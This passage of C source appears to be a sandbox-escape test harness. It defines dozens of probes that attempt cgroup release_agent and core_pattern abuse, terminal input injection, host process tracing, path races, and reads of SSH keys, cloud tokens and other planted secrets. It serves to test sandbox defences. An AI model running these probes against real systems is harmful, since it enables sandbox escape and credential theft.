	if (strcmp(how, "directory-rename") == 0) { /* made elsewhere, then moved to where it is denied */
		char made[PATH_MAX];

		snprintf(made, sizeof made, "%s.other", other);
		if (mkdir(made, 0755) < 0)
			return failed("mkdir");
		snprintf(made, sizeof made, "%s.other/%s", other, strrchr(path, '/') + 1);
		int status = spoil(open(made, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), made);
		if (status != WON)
			return status;
		snprintf(made, sizeof made, "%s.other", other);
		return judged(rename(made, other), "rename of a directory");
	}
	if (strcmp(how, "symlinked-parent") == 0) { /* `other` is a directory; reach it by a name of our own */
		char by[PATH_MAX];

		snprintf(by, sizeof by, "%s.alias", other);
		if (symlink(other, by) < 0)
			return failed("symlink");
		snprintf(by, sizeof by, "%s.alias/%s", other, path);
		return spoil(open(by, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), by);
	}
	if (strcmp(how, "tmpfile") == 0) { /* a file without a name gets one */
		char from[64];
		int fd = open(other, O_TMPFILE | O_WRONLY | O_CLOEXEC, 0644);

		if (fd < 0)
			return failed("open O_TMPFILE");
		snprintf(from, sizeof from, "/proc/self/fd/%d", fd);
		return judged(linkat(AT_FDCWD, from, AT_FDCWD, path, AT_SYMLINK_FOLLOW), "linkat of an O_TMPFILE");
	}
	if (strcmp(how, "page-edge") == 0) { /* the last byte of the name is the last byte that can be read */
		long page = sysconf(_SC_PAGESIZE);
		char *memory = mmap(NULL, (size_t)page * 2, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		char *name = memory + page - strlen(path) - 1;

		munmap(memory + page, (size_t)page);
		strcpy(name, path);
		return spoil((int)syscall(SYS_openat, AT_FDCWD, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), path);
	}
	if (strcmp(how, "long-path") == 0) { /* as long as a path may be: ./././name */
		char name[PATH_MAX];
		size_t length = strlen(path), at = 0;

		while (at + 2 + length + 1 < sizeof name - 8) {
			memcpy(name + at, "./", 2);
			at += 2;
		}
		strcpy(name + at, path);
		return spoil(open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), path);
	}
	if (strcmp(how, "keep-trying") == 0) {
		double end = now() + 3;
		int error = 0;

		while (now() < end) {
			int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

			if (fd >= 0)
				return spoil(fd, path);
			error = errno;
			rest(0.005);
		}
		return refused("open: %s", errno_name(error));
	}
	return MISUSED;
}

PROBE(appear_by_race)
{
	NEED(3); /* allowed name, denied name (of the same length), seconds */
	char path[PATH_MAX];
	struct flip flip = { path, argv[1], argv[2], strlen(argv[1]), false };
	pthread_t thread;
	struct stat st;
	double end = now() + strtod(argv[3], NULL);
	int error = 0;

	if (strlen(argv[1]) != strlen(argv[2]))
		return MISUSED;
	strcpy(path, argv[1]);
	if (pthread_create(&thread, NULL, flipper, &flip) != 0)
		return cannot("no thread");
	while (now() < end) {
		int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

		if (fd < 0)
			error = errno;
		else
			close(fd);
	}
	flip.stop = true;
	pthread_join(thread, NULL);
	if (lstat(argv[2], &st) == 0 && S_ISREG(st.st_mode))
		return won("the race was won");
	return refused("the race was never won (last error %s)", errno_name(error));
}

PROBE(read_when_it_appears)
{
	NEED(2);
	double end = now() + strtod(argv[2], NULL);
	int error = ENOENT;

	while (now() < end) {
		int fd = open(argv[1], O_RDONLY | O_CLOEXEC);

		if (fd >= 0) {
			char byte;

			if (pread(fd, &byte, 1, 0) == 1)
				return take_secret(fd, argv[1]);
			close(fd);
		} else
			error = errno;
		rest(0.01);
	}
	return refused("never readable (%s)", errno_name(error));
}

/* ---- the table -------------------------------------------------------------------------------------- */

struct probe {
	const char *name, *class;
	int (*run)(int argc, char **argv);
};

static const struct probe probes[] = {
	{ "core-pattern-write", "procfs", write_back },
	{ "sysctl-hostname", "procfs", write_back },
	{ "sysctl-ns-last-pid", "procfs", write_back },
	{ "sysctl-randomize", "procfs", write_back },
	{ "sysctl-poweroff-cmd", "procfs", write_back },
	{ "sysctl-max-userns", "procfs", write_back },
	{ "sysrq-trigger", "procfs", open_for_writing },
	{ "irq-affinity", "procfs", open_for_writing },
	{ "kcore", "procfs", read_any_bytes },
	{ "kmsg-proc", "procfs", read_any_bytes },
	{ "timer-list", "procfs", read_any_bytes },
	{ "slabinfo", "procfs", read_any_bytes },
	{ "kallsyms", "procfs", kernel_addresses },
	{ "iomem", "procfs", kernel_addresses },
	{ "proc-keys", "procfs", find_text },
	{ "proc-1-root", "procfs", secret_under_link },
	{ "proc-self-root", "procfs", secret_through_link },
	{ "proc-1-cwd", "procfs", secret_through_link },
	{ "proc-1-environ", "procfs", secret_in_proc_file },
	{ "proc-1-mem", "procfs", secret_in_memory_of_init },
	{ "proc-1-exe-write", "procfs", overwrite_exe_of_init },
	{ "proc-any-fd", "procfs", secret_in_any_process },
	{ "proc-any-environ", "procfs", secret_in_any_process },
	{ "proc-host-pid", "procfs", host_process_visible },
	{ "proc-host-environ", "procfs", secret_in_proc_file },
	{ "proc-host-fd", "procfs", secret_in_proc_file },
	{ "proc-host-mem", "procfs", secret_in_host_memory },
	{ "sysfs-read", "procfs", sysfs_visible },
	{ "sysfs-write", "procfs", open_for_writing },
	{ "cgroup-release-agent", "procfs", release_agent },
	{ "cgroup-procs-write", "procfs", open_for_writing },

	{ "tiocsti", "terminal", push_input },
	{ "tiocsti-high-bits", "terminal", push_input },
	{ "tioclinux", "terminal", console_ioctl },
	{ "tioclinux-high-bits", "terminal", console_ioctl },
	{ "dev-tty", "terminal", write_dev_tty },
	{ "tiocsctty", "terminal", take_terminal },

	{ "fd-3", "descriptors", inherited_file },
	{ "fd-9", "descriptors", inherited_file },
	{ "fd-25", "descriptors", inherited_file },
	{ "fd-200", "descriptors", inherited_file },
	{ "fd-directory-fchdir", "descriptors", inherited_directory_fchdir },
	{ "fd-directory-openat", "descriptors", inherited_directory_openat },
	{ "fd-socket", "descriptors", inherited_socket },
	{ "fd-namespace", "descriptors", inherited_namespace },
	{ "stdin-directory", "descriptors", inherited_directory_openat },
	{ "stdin-directory-fchdir", "descriptors", inherited_directory_fchdir },
	{ "stdin-reopen-write", "descriptors", reopen_stdin_for_writing },

	{ "env-secret-token", "environment", variable },
	{ "env-ssh-auth-sock", "environment", variable },
	{ "env-ld-preload", "environment", variable },
	{ "env-ld-library-path", "environment", variable },
	{ "env-node-options", "environment", variable },
	{ "env-git-ssh-command", "environment", variable },
	{ "env-bash-env", "environment", variable },
	{ "env-aws-secret", "environment", variable },
	{ "env-github-token", "environment", variable },
	{ "env-dbus-session", "environment", variable },
	{ "env-python-startup", "environment", variable },

	{ "unix-stream", "unix sockets", unix_stream },
	{ "unix-seqpacket", "unix sockets", unix_seqpacket },
	{ "unix-dgram-sendto", "unix sockets", unix_datagram },
	{ "unix-dgram-sendmsg", "unix sockets", unix_datagram },
	{ "unix-dgram-sendmmsg", "unix sockets", unix_datagram },
	{ "unix-dgram-connect", "unix sockets", unix_datagram },
	{ "unix-outside", "unix sockets", unix_stream },
	{ "unix-home-agent", "unix sockets", unix_stream },
	{ "unix-docker-ro", "unix sockets", unix_stream },
	{ "unix-symlink", "unix sockets", unix_stream },
	{ "unix-proc-cwd", "unix sockets", unix_stream },
	{ "unix-proc-fd", "unix sockets", unix_by_descriptor },
	{ "unix-scm-rights", "unix sockets", unix_receive_descriptor },
	{ "unix-abstract-stream", "unix sockets", unix_stream },
	{ "unix-abstract-dgram", "unix sockets", unix_datagram },
	{ "unix-int80", "unix sockets", int80_connect },
	{ "unix-race", "seccomp notify", unix_race },

	{ "ptrace-traceme", "seccomp", ptrace_traceme },
	{ "ptrace-sibling", "seccomp", ptrace_seize },
	{ "process-vm-readv-sibling", "seccomp", read_other_memory },
	{ "pidfd-getfd-sibling", "seccomp", take_descriptor },
	{ "kcmp", "seccomp", compare_processes },
	{ "bpf", "seccomp", load_bpf },
	{ "perf-event-open", "seccomp", perf_event },
	{ "userfaultfd", "seccomp", user_faults },
	{ "io-uring", "seccomp", io_uring },
	{ "add-key", "seccomp", key_add },
	{ "request-key", "seccomp", key_request },
	{ "keyctl", "seccomp", key_session },
	{ "mount", "seccomp", mount_tmpfs },
	{ "mount-high-bits", "seccomp", mount_high_bits },
	{ "mount-proc", "seccomp", mount_proc },
	{ "mount-overlay", "seccomp", mount_overlay },
	{ "umount", "seccomp", unmount },
	{ "pivot-root", "seccomp", change_root_mount },
	{ "chroot", "seccomp", change_root },
	{ "setns", "seccomp", enter_own_namespace },
	{ "fsopen", "seccomp", fs_open },
	{ "fsmount", "seccomp", fs_mount },
	{ "fspick", "seccomp", fs_pick },
	{ "open-tree", "seccomp", clone_tree },
	{ "open-tree-attr", "seccomp", clone_tree_attr },
	{ "move-mount", "seccomp", move_tree },
	{ "mount-setattr", "seccomp", set_mount_attributes },
	{ "open-by-handle-at", "seccomp", open_handle },
	{ "name-to-handle-at", "seccomp", make_handle },
	{ "kexec-load", "seccomp", load_kernel },
	{ "kexec-file-load", "seccomp", load_kernel_file },
	{ "init-module", "seccomp", load_module },
	{ "finit-module", "seccomp", load_module_file },
	{ "delete-module", "seccomp", unload_module },
	{ "swapon", "seccomp", swap_on },
	{ "swapoff", "seccomp", swap_off },
	{ "reboot", "seccomp", restart_machine },
	{ "acct", "seccomp", accounting },
	{ "syslog", "seccomp", kernel_log },
	{ "iopl", "seccomp", io_privilege },
	{ "ioperm", "seccomp", io_ports },
	{ "settimeofday", "seccomp", set_time_of_day },
	{ "clock-settime", "seccomp", set_clock },
	{ "adjtimex", "seccomp", adjust_clock },
	{ "sethostname", "seccomp", set_host_name },
	{ "setdomainname", "seccomp", set_domain_name },
	{ "x32", "seccomp", x32_call },
	{ "int80", "seccomp", int80_getpid },
	{ "socket-vsock", "seccomp", open_socket },
	{ "socket-packet", "seccomp", open_socket },
	{ "socket-alg", "seccomp", open_socket },
	{ "socket-bluetooth", "seccomp", open_socket },
	{ "socket-xdp", "seccomp", open_socket },
	{ "socket-raw-icmp", "seccomp", open_socket },
	{ "socket-netlink-netfilter", "seccomp", open_socket },
	{ "socket-netlink-uevent", "seccomp", open_socket },
	{ "netlink-interfaces", "seccomp", host_interfaces },
	{ "personality", "seccomp", odd_personality },
	{ "modify-ldt", "seccomp", write_ldt },
	{ "fanotify-init", "seccomp", watch_files },
	{ "vhangup", "seccomp", hang_up },
	{ "quotactl", "seccomp", quota },
	{ "suid-chmod", "seccomp", setuid_bit },
	{ "suid-fchmod", "seccomp", setuid_bit },
	{ "suid-fchmodat", "seccomp", setuid_bit },
	{ "suid-fchmodat2", "seccomp", setuid_bit },
	{ "suid-open", "seccomp", setuid_bit },
	{ "suid-creat", "seccomp", setuid_bit },
	{ "suid-openat2", "seccomp", setuid_bit },
	{ "suid-mknod", "seccomp", setuid_bit },
	{ "sgid-chmod", "seccomp", setuid_bit },
	{ "mknod-char", "seccomp", device_node },
	{ "mknod-block", "seccomp", device_node },
	{ "file-capability", "seccomp", file_capability },

	{ "cap-effective", "identity", has_capabilities },
	{ "cap-permitted", "identity", has_capabilities },
	{ "cap-bounding", "identity", has_capabilities },
	{ "no-new-privs", "identity", may_gain_privileges },
	{ "become-uid", "identity", become },
	{ "become-gid", "identity", become },
	{ "become-group", "identity", become },
	{ "dac-override", "identity", read_secret },
	{ "suid-binary", "identity", run_privileged_copy },
	{ "filecap-binary", "identity", run_privileged_copy },
	{ "host-uid-zero", "identity", stay },
	{ "host-unfiltered", "identity", stay },
	{ "chown-other", "identity", give_away },
	{ "rlimit-raise", "identity", raise_limit },
	{ "nice-negative", "identity", be_rude },
	{ "sched-fifo", "identity", be_realtime },

	{ "unshare-user", "namespaces", unshare_flag },
	{ "unshare-mount", "namespaces", unshare_flag },
	{ "unshare-pid", "namespaces", unshare_flag },
	{ "unshare-net", "namespaces", unshare_flag },
	{ "unshare-uts", "namespaces", unshare_flag },
	{ "unshare-ipc", "namespaces", unshare_flag },
	{ "unshare-cgroup", "namespaces", unshare_flag },
	{ "unshare-time", "namespaces", unshare_flag },
	{ "unshare-user-mount", "namespaces", unshare_flag },
	{ "clone-user", "namespaces", clone_user_namespace },
	{ "clone3-user", "namespaces", clone3_user_namespace },
	{ "setns-host", "namespaces", enter_host_namespaces },
	{ "host-namespaces", "namespaces", stay },
	{ "kill-host", "namespaces", signal_process },
	{ "tgkill-host", "namespaces", signal_process },
	{ "sigqueue-host", "namespaces", signal_process },
	{ "pidfd-signal-host", "namespaces", signal_process },
	{ "kill-group", "namespaces", signal_group },
	{ "kill-parent", "namespaces", signal_parent },
	{ "ptrace-host", "namespaces", ptrace_seize },
	{ "process-vm-readv-host", "namespaces", read_other_memory },
	{ "pidfd-getfd-host", "namespaces", take_descriptor },
	{ "prlimit-host", "namespaces", limit_process },
	{ "sysv-shm", "namespaces", shared_memory },
	{ "posix-mq", "namespaces", message_queue },
	{ "posix-shm", "namespaces", read_secret },

	{ "tcp-loopback", "network", tcp_connect },
	{ "tcp-loopback6", "network", tcp_connect },
	{ "tcp-mapped", "network", tcp_connect },
	{ "tcp-any-address", "network", tcp_connect },
	{ "tcp-own-address", "network", tcp_connect },
	{ "udp-loopback", "network", udp_talk },
	{ "udp-loopback6", "network", udp_talk },
	{ "tcp-fastopen", "landlock", tcp_fast_open },
	{ "ping", "network", ping },
	{ "listen-port", "network", serve_host },
	{ "listen-without-bind", "landlock", serve_host_without_bind },

	{ "read-absolute", "filesystem", read_secret },
	{ "read-dotdot", "filesystem", read_secret },
	{ "read-symlink", "filesystem", read_secret },
	{ "read-own-symlink", "filesystem", read_by_own_symlink },
	{ "read-hardlink", "filesystem", read_by_link },
	{ "read-proc-cwd", "filesystem", secret_through_link },
	{ "read-proc-fd", "filesystem", read_by_descriptor_path },
	{ "stat-outside", "filesystem", see },
	{ "list-outside", "filesystem", list },
	{ "write-absolute", "filesystem", write_file },
	{ "write-symlink", "filesystem", write_file },
	{ "create-outside", "filesystem", appear },
	{ "create-etc", "filesystem", appear },
	{ "create-usr", "filesystem", appear },
	{ "create-root", "filesystem", appear },
	{ "open-usr-write", "filesystem", open_for_writing },
	{ "chmod-outside", "landlock", change_mode },
	{ "home-ssh-key", "filesystem", read_secret },
	{ "home-cargo-credentials", "filesystem", read_secret },
	{ "home-other-user", "filesystem", read_secret },
	{ "home-list", "filesystem", list },
	{ "home-bashrc-write", "filesystem", write_file },
	{ "home-tool-write", "filesystem", write_file },

	{ "deny-read", "denied file", read_secret },
	{ "deny-read-symlink", "denied file", read_by_own_symlink },
	{ "deny-read-proc-cwd", "denied file", read_secret },
	{ "deny-read-dirfd", "denied file", read_below },
	{ "deny-read-opath", "denied file", read_by_opath },
	{ "deny-write", "denied file", write_file },
	{ "deny-truncate", "denied file", cut_file },
	{ "deny-chmod", "denied file", change_mode },
	{ "deny-rename-over", "denied file", rename_file },
	{ "deny-rename-away", "denied file", read_after_rename },
	{ "deny-exchange", "denied file", read_after_exchange },
	{ "deny-unlink", "denied file", remove_file },
	{ "deny-hardlink", "denied file", read_by_link },
	{ "deny-parent-rename", "denied file", read_after_renaming_parent },
	{ "deny-parent-swap", "denied file", replace_by_swapping_parent },
	{ "deny-bind-over", "denied file", mount_bind_over },

	{ "deny-dir-list", "denied directory", list },
	{ "deny-dir-read", "denied directory", read_secret },
	{ "deny-dir-chdir", "denied directory", read_below },
	{ "deny-dir-create", "denied directory", appear },
	{ "deny-dir-rename", "denied directory", read_after_renaming_parent },
	{ "deny-dir-swap", "denied directory", replace_by_swapping_parent },

	{ "deny-new-open", "denied new name", appear },
	{ "deny-new-creat", "denied new name", appear },
	{ "deny-new-openat2", "denied new name", appear },
	{ "deny-new-mkdir", "denied new name", appear },
	{ "deny-new-mkdir-slash", "denied new name", appear },
	{ "deny-new-rename", "denied new name", appear },
	{ "deny-new-renameat2", "denied new name", appear },
	{ "deny-new-link", "denied new name", appear },
	{ "deny-new-symlink", "denied new name", appear },
	{ "deny-new-fifo", "denied new name", appear },
	{ "deny-new-mknod", "denied new name", appear },
	{ "deny-new-bind", "denied new name", appear },
	{ "deny-new-dangling", "denied new name", appear },
	{ "deny-new-proc-cwd", "denied new name", appear },
	{ "deny-new-dirfd", "denied new name", appear },
	{ "deny-new-chdir", "denied new name", appear },
	{ "deny-new-dotdot", "denied new name", appear },
	{ "deny-new-double-slash", "denied new name", appear },
	{ "deny-new-symlinked-parent", "denied new name", appear },
	{ "deny-new-tmpfile", "denied new name", appear },
	{ "deny-new-page-edge", "seccomp notify", appear },
	{ "deny-new-long-path", "seccomp notify", appear },
	{ "deny-new-int80", "seccomp notify", int80_create },
	{ "deny-new-race", "seccomp notify", appear_by_race },
	{ "deny-new-supervisor-killed", "seccomp notify", appear },
	{ "deny-new-below-new", "denied new name", appear },
	{ "deny-new-directory-rename", "denied new name", appear },
	{ "deny-new-host-creates", "denied new name", read_when_it_appears },

	{ "ro-write", "read-only path", write_file },
	{ "ro-truncate", "read-only path", cut_file },
	{ "ro-chmod", "read-only path", change_mode },
	{ "ro-utimes", "read-only path", change_times },
	{ "ro-setxattr", "read-only path", change_attribute },
	{ "ro-rename", "read-only path", rename_file },
	{ "ro-unlink", "read-only path", remove_file },
	{ "ro-create", "read-only path", appear },
	{ "ro-mkdir", "read-only path", appear },
	{ "ro-tmpfile", "read-only path", appear },
	{ "ro-rename-into", "read-only path", appear },
	{ "ro-hardlink-write", "read-only path", write_by_link },
	{ "ro-reopen-write", "read-only path", write_by_reopening },
	{ "ro-symlink-write", "read-only path", write_file },
	{ "ro-nested-write", "read-only path", write_file },
	{ "ro-nested-parent-rename", "read-only path", write_after_renaming_parent },
	{ "ro-nested-parent-swap", "read-only path", replace_by_swapping_parent },
	{ "ro-remount", "read-only path", remount_and_write },

	{ "dev-mem", "devices", open_device },
	{ "dev-kmsg", "devices", open_device },
	{ "dev-disk", "devices", open_device },
	{ "dev-fuse", "devices", open_device },
	{ "dev-kvm", "devices", open_device },
	{ "dev-tun", "devices", open_device },
	{ "dev-loop-control", "devices", open_device },
	{ "dev-console", "devices", open_device },
	{ "dev-port", "devices", open_device },
};

/* ---- the host's side: started by the judge, never inside a sandbox ---------------------------------- */

static int victim_log = -1;

static void victim_heard(int signal)
{
	char line[32];
	int n = snprintf(line, sizeof line, "signal %d\n", signal);

	if (write(victim_log, line, (size_t)n) < 0)
		_exit(1);
}

/* --victim SECRET LOG SECRETFILE: a process with a secret in its memory and on descriptor 50. */
static int victim(int argc, char **argv)
{
	NEED(3);
	char *memory = strdup(argv[1]);
	int fd = open(argv[3], O_RDONLY);

	memset(argv[1], 'x', strlen(argv[1]));
	victim_log = open(argv[2], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	dup2(fd, 50);
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
	signal(SIGUSR1, victim_heard);
	signal(SIGWINCH, victim_heard);
	printf("%p\n", (void *)memory);
	fflush(stdout);
	for (double end = now() + 60; now() < end;)
		rest(1);
	return 0;
}

/* --as-init CMD...: be pid 1 of a throw-away pid namespace, with everything that was inherited. */
static int as_init(int argc, char **argv)
{
	NEED(1);
	int status;
	pid_t pid = fork();

	if (pid == 0) {
		for (int fd = 3; fd < 256; fd++)
			close(fd);
		execvp(argv[1], argv + 1);
		_exit(127);
	}
	if (waitpid(pid, &status, 0) < 0)
		return MISUSED;
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* --parent LOG CMD...: a parent that writes down the signals it gets. */
static int parent(int argc, char **argv)
{
	NEED(2);
	int status;

	victim_log = open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	signal(SIGWINCH, victim_heard);
	pid_t pid = fork();
	if (pid == 0) {
		execvp(argv[2], argv + 2);
		_exit(127);
	}
	while (waitpid(pid, &status, 0) < 0)
		if (errno != EINTR)
			return MISUSED;
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* --with-key NAME SECRET CMD...: a session keyring with a key, handed down to the command. */
static int with_key(int argc, char **argv)
{
	NEED(3);
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
	    syscall(SYS_add_key, "user", argv[1], argv[2], strlen(argv[2]), KEY_SPEC_SESSION_KEYRING) < 0)
		return cannot("keyring: %s", errno_name(errno));
	execvp(argv[3], argv + 3);
	return MISUSED;
}

/* --with-fd N PATH CMD...: the command inherits N, open on PATH (a file, a directory, a namespace, a socket). */
static int with_fd(int argc, char **argv)
{
	NEED(3);
	struct sockaddr_un address;
	int fd = open(argv[2], O_RDONLY);

	if (fd < 0 && errno == ENXIO) { /* a socket: connect to it */
		socklen_t length = unix_address(&address, argv[2]);

		fd = socket(AF_UNIX, SOCK_STREAM, 0);
		if (connect(fd, (struct sockaddr *)&address, length) < 0)
			return MISUSED;
	}
	if (fd < 0 || dup2(fd, (int)number(argv[1])) < 0)
		return MISUSED;
	if (fd != (int)number(argv[1]))
		close(fd);
	execvp(argv[3], argv + 3);
	return MISUSED;
}

/* --key-take NAME: was that key left in the user's keyring? If so remove it. */
static int key_take(int argc, char **argv)
{
	NEED(1);
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", argv[1], 0);

	if (key < 0)
		return refused("no key: %s", errno_name(errno));
	syscall(SYS_keyctl, KEYCTL_UNLINK, key, KEY_SPEC_USER_KEYRING);
	return won("key %s was there", argv[1]);
}

/* --handle PATH: what open_by_handle_at needs to find that file. */
static int handle_of(int argc, char **argv)
{
	NEED(1);
	struct handle handle = { .head = { .handle_bytes = MAX_HANDLE_SZ } };
	int mount_id;

	if (name_to_handle_at(AT_FDCWD, argv[1], &handle.head, &mount_id, 0) < 0)
		return failed("name_to_handle_at");
	printf("%d:", handle.head.handle_type);
	for (unsigned i = 0; i < handle.head.handle_bytes; i++)
		printf("%02x", handle.head.f_handle[i]);
	printf("\n");
	return 0;
}

static int shm_make(int argc, char **argv)
{
	NEED(2);
	int id = shmget((key_t)number(argv[1]), 4096, IPC_CREAT | IPC_EXCL | 0600);
	char *text = id < 0 ? (void *)-1 : shmat(id, NULL, 0);

	if (text == (void *)-1)
		return failed("shmget");
	strcpy(text, argv[2]);
	return 0;
}

static int shm_drop(int argc, char **argv)
{
	NEED(1);
	return shmctl(shmget((key_t)number(argv[1]), 0, 0), IPC_RMID, NULL) < 0;
}

static int mq_make(int argc, char **argv)
{
	NEED(2);
	struct mq_attr attr = { .mq_maxmsg = 4, .mq_msgsize = 256 };
	mqd_t queue = mq_open(argv[1], O_CREAT | O_EXCL | O_RDWR, 0600, &attr);

	if (queue == (mqd_t)-1 || mq_send(queue, argv[2], strlen(argv[2]) + 1, 0) < 0)
		return failed("mq_open");
	return 0;
}

static int mq_drop(int argc, char **argv)
{
	NEED(1);
	return mq_unlink(argv[1]) < 0;
}

/* --hello ALLOWED RO: what every honest program does. A sandbox in which this fails refuses attacks for the
 * wrong reason. */
static void *nothing(void *argument)
{
	return argument;
}

static int hello(int argc, char **argv)
{
	NEED(2);
	char path[PATH_MAX], other[PATH_MAX], byte = 0;
	int status, ends[2], fd = open(argv[1], O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	pthread_t thread;
	pid_t pid;

	if (fd < 0 || write(fd, "hello", 5) != 5 || pread(fd, &byte, 1, 0) != 1 || byte != 'h')
		return failed("write and read a file");
	close(fd);
	snprintf(path, sizeof path, "%s.dir", argv[1]);
	snprintf(other, sizeof other, "%s.dir/moved", argv[1]);
	if (mkdir(path, 0755) < 0 || rename(argv[1], other) < 0 || chmod(other, 0755) < 0 || unlink(other) < 0 || rmdir(path) < 0)
		return failed("mkdir, rename, chmod, unlink, rmdir");
	if (take_secret_at(AT_FDCWD, argv[2]) != WON)
		return failed("read a path given with --ro");
	if (pipe(ends) < 0 || pthread_create(&thread, NULL, nothing, NULL) != 0 || pthread_join(thread, NULL) != 0)
		return failed("pipe and thread");
	pid = fork();
	if (pid == 0)
		_exit(write(ends[1], "x", 1) == 1 ? 7 : 8);
	if (pid < 0 || read(ends[0], &byte, 1) != 1 || waitpid(pid, &status, 0) != pid || WEXITSTATUS(status) != 7)
		return failed("fork and wait");
	fd = open("/dev/urandom", O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, &byte, 1) != 1 || open("/dev/null", O_RDWR | O_CLOEXEC) < 0)
		return failed("/dev/urandom and /dev/null");
	if (status_field("Threads", 10) != 1)
		return failed("/proc/self/status");
	/* Mistakes are honest too: each comes back as an error, and whoever decides such calls survives them. */
	struct sockaddr_un address;
	socklen_t length = unix_address(&address, "nowhere");
	int unconnected = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (connect(-1, (struct sockaddr *)&address, length) == 0 || connect(-100, (struct sockaddr *)&address, length) == 0 ||
	    connect(unconnected, (struct sockaddr *)8, length) == 0 || connect(unconnected, (struct sockaddr *)&address, 1 << 20) == 0 ||
	    bind(-1, (struct sockaddr *)&address, length) == 0 || sendto(-1, "x", 1, 0, (struct sockaddr *)&address, length) >= 0 ||
	    syscall(SYS_sendmsg, unconnected, 8, 0) >= 0 || syscall(SYS_openat, -7, "x", O_CREAT | O_WRONLY, 0600) >= 0 ||
	    syscall(SYS_openat, AT_FDCWD, 8, O_CREAT | O_WRONLY, 0600) >= 0 || syscall(SYS_mkdirat, -1, "x", 0700) == 0 ||
	    syscall(SYS_renameat, -1, "x", -2, "y") == 0 || syscall(SYS_linkat, -1, "x", -1, "y", 0xffff) == 0 ||
	    syscall(SYS_symlinkat, 8, -1, 8) == 0 || syscall(SYS_unlinkat, -1, 8, 0) == 0)
		return refused("a call with wrong arguments succeeded");
	fd = open("/tmp/hello-from-inside", O_RDWR | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	if (fd < 0)
		return failed("a file in /tmp");
	unlink("/tmp/hello-from-inside");
	return won("an honest program works");
}

static const struct probe helpers[] = {
	{ "--victim", "", victim },	  { "--as-init", "", as_init },	  { "--parent", "", parent },	  { "--with-key", "", with_key },
	{ "--key-take", "", key_take },	  { "--handle", "", handle_of },  { "--shm-make", "", shm_make }, { "--shm-drop", "", shm_drop },
	{ "--mq-make", "", mq_make },	  { "--mq-drop", "", mq_drop },	  { "--with-fd", "", with_fd },
	{ "--hello", "", hello },
};

int main(int argc, char **argv)
{
	self_path = argv[0];
	if (argc == 2 && strcmp(argv[1], "--list") == 0) {
		for (size_t i = 0; i < sizeof probes / sizeof *probes; i++)
			printf("%s\t%s\n", probes[i].name, probes[i].class);
		return 0;
	}
	/* A copy with privileges of its own stands in a public place for a moment: it does only what it is there for. */
	if (getauxval(AT_SECURE) && (argc < 2 || (strcmp(argv[1], "dac-override") != 0 && strcmp(argv[1], "cap-effective") != 0)))
		return MISUSED;
	for (size_t i = 0; argc > 1 && i < sizeof helpers / sizeof *helpers; i++)
		if (strcmp(argv[1], helpers[i].name) == 0)
			return helpers[i].run(argc - 1, argv + 1);
	for (size_t i = 0; argc > 1 && i < sizeof probes / sizeof *probes; i++)
		if (strcmp(argv[1], probes[i].name) == 0)
			return probes[i].run(argc - 1, argv + 1);
	fprintf(stderr, "usage: %s NAME [ARG...] | --list\n", self_path);
	return MISUSED;
}
